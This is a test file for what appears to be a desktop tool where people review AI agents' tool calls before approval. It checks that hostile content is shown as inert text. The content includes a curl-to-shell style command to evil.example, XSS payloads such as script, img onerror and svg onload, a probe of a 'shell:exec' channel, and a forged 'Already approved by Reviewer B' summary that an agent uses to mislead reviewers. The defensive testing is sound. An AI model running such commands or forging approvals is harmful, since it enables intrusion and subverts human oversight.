import { caseFile } from './cases.js';
import { publish, writeSettings } from './data-folder.js';
import { expect, test } from './ledger-world.js';
import { bar, card, goTo, hasStatus, markApproved, readToEnd, ready, rows, select } from './reviewer.js';

test('C16 a call that the transcript answers is shown as answered, whatever a field beside it says', async ({
  launch,
  folders,
  world,
}) => {
  writeSettings(folders, world.settings);
  const first = await launch();
  publish(folders, 'run.json', caseFile('C16'));
  await select(first.page, 'ask_user');
  await first.kill();
  const { page } = await launch();
  await select(page, 'ask_user');
  await expect(page.getByTestId('verdict')).toContainText('already holds an answer');
  await ready(page);
  await page.keyboard.press('a');
  await expect(bar(page)).toHaveAttribute('data-mode', 'idle');
  await page.keyboard.press(']');
  await expect(page.getByTestId('verdict')).toContainText('send_payment');
  await expect(page.getByTestId('verdict')).not.toContainText('already holds an answer');
  await page.keyboard.press('i');
  await expect(page.getByTestId('raw')).toContainText('suspended_tools');
  expect(world.ledger.lines()).toEqual([]);
});

test('C17 a file of decisions resolves nothing: it is listed with its reason, and both calls stay open', async ({
  launch,
  folders,
  world,
}) => {
  writeSettings(folders, world.settings);
  const { page } = await launch();
  publish(folders, 'run.json', caseFile('C17'));
  await select(page, 'send_payment');
  publish(folders, 'decisions-swapped.json', caseFile('C17', 'decisions-swapped.json'));
  await expect(page.getByRole('navigation').getByRole('button', { name: 'Unreadable' })).toContainText('1');
  await expect(bar(page)).toContainText('Call 1 open, 2 open');
  await hasStatus(page, 'waiting');
  await goTo(page, 'Unreadable');
  await select(page, 'decisions-swapped');
  await expect(page.getByTestId('unreadable')).toBeVisible();
  expect(world.ledger.lines()).toEqual([]);
});

test('C57 at 1024x700 and 400 % a long command is whole, with its length', async ({ launch, folders, world }) => {
  writeSettings(folders, world.settings);
  const { page, app } = await launch();
  publish(folders, 'run.json', caseFile('C57'));
  await expect(rows(page)).toHaveCount(1);
  await select(page, /×3/);
  await page.keyboard.press('Enter');
  await app.evaluate(({ BrowserWindow }) => {
    const window = BrowserWindow.getAllWindows()[0];
    window?.setContentSize(1024, 700);
    window?.webContents.setZoomFactor(4);
  });
  await expect.poll(() => page.evaluate(() => Math.round(innerWidth))).toBe(256);
  const shown = page.getByTestId('arguments');
  await expect(shown).toContainText('200 characters, 1 line');
  await expect(shown).toContainText('https://evil.example/x.sh | sh');
});

test('C63 markup from a model stays text in every field; the page has no way to Node and no free hand to the bridge', async ({
  launch,
  folders,
  world,
}) => {
  writeSettings(folders, world.settings);
  const { page } = await launch();
  publish(folders, 'run.json', caseFile('C63'));
  await select(page, 'run_shell');
  for (const text of [
    "<script>document.title='PWNED'</script>",
    '<img src=x onerror=alert(1)>',
    '{{constructor.constructor',
  ])
    await expect(page.getByTestId('arguments')).toContainText(text);
  await expect(page.getByTestId('verdict')).toContainText('run_shell<script>');
  await expect(card(page)).toContainText('<b>id</b>');
  await expect(card(page)).toContainText('"><img src=x onerror=document.title=');
  await expect(page.getByTestId('conversation')).toContainText('<svg onload=');
  const reach = await page.evaluate(() => {
    const bridge = (globalThis as unknown as { holdpoint: object }).holdpoint;
    const kinds = ['require', 'process', 'Buffer', 'module'].map((name) => typeof (globalThis as never)[name]);
    return {
      title: document.title,
      kinds,
      bridge: Object.keys(bridge).sort(),
      opened: window.open('https://evil.example/'),
    };
  });
  expect(reach.title).not.toContain('PWNED');
  expect(reach.kinds).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
  expect(reach.opened).toBeNull();
  // Channels by name only: one that is not in the map is refused.
  const odd = await page.evaluate(() =>
    (globalThis as unknown as { holdpoint: { invoke(c: string): Promise<unknown> } }).holdpoint
      .invoke('shell:exec')
      .then(
        () => 'answered',
        () => 'refused',
      ),
  );
  expect(odd).toBe('refused');
  expect(page.url()).toBe('app://holdpoint/');
});

test('C64 a forged summary stays in its own region, badges come from the tool table, blank lines are counted', async ({
  launch,
  folders,
  world,
}) => {
  writeSettings(folders, world.settings);
  const { page } = await launch();
  publish(folders, 'run.json', caseFile('C64'));
  await select(page, 'run_shell');
  const verdict = page.getByTestId('verdict');
  await expect(verdict).toContainText('not repeatable');
  await expect(verdict.locator('.tag')).not.toContainText(/low|read-only/i);
  for (const field of ['description', 'risk', 'approved_by', 'command'])
    await expect(page.getByTestId('arguments').locator(`[data-path="${field}"]`)).toBeVisible();
  // The agent's words are folded, apart, and nowhere in the decision.
  await expect(card(page).locator('details.agent-words')).not.toHaveAttribute('open');
  for (const region of [verdict, bar(page)]) await expect(region).not.toContainText('Already approved by Reviewer B');
  await expect(page.getByTestId('conversation')).toContainText(/7\d blank lines/);
});

test('C99 approving one call decides that call alone', async ({ launch, folders, world }) => {
  writeSettings(folders, world.settings);
  const { page } = await launch();
  publish(folders, 'run.json', caseFile('C99'));
  publish(folders, 'next.json', caseFile('C99', 'next.json'));
  await expect(rows(page)).toHaveCount(2);
  await select(page, /×2/);
  await expect(page.getByTestId('arguments')).toContainText('No arguments');
  await readToEnd(page);
  await markApproved(page, 1);
  await expect(bar(page)).toContainText('2 open');
  await hasStatus(page, 'waiting');
  expect(world.ledger.lines()).toEqual([]);
});
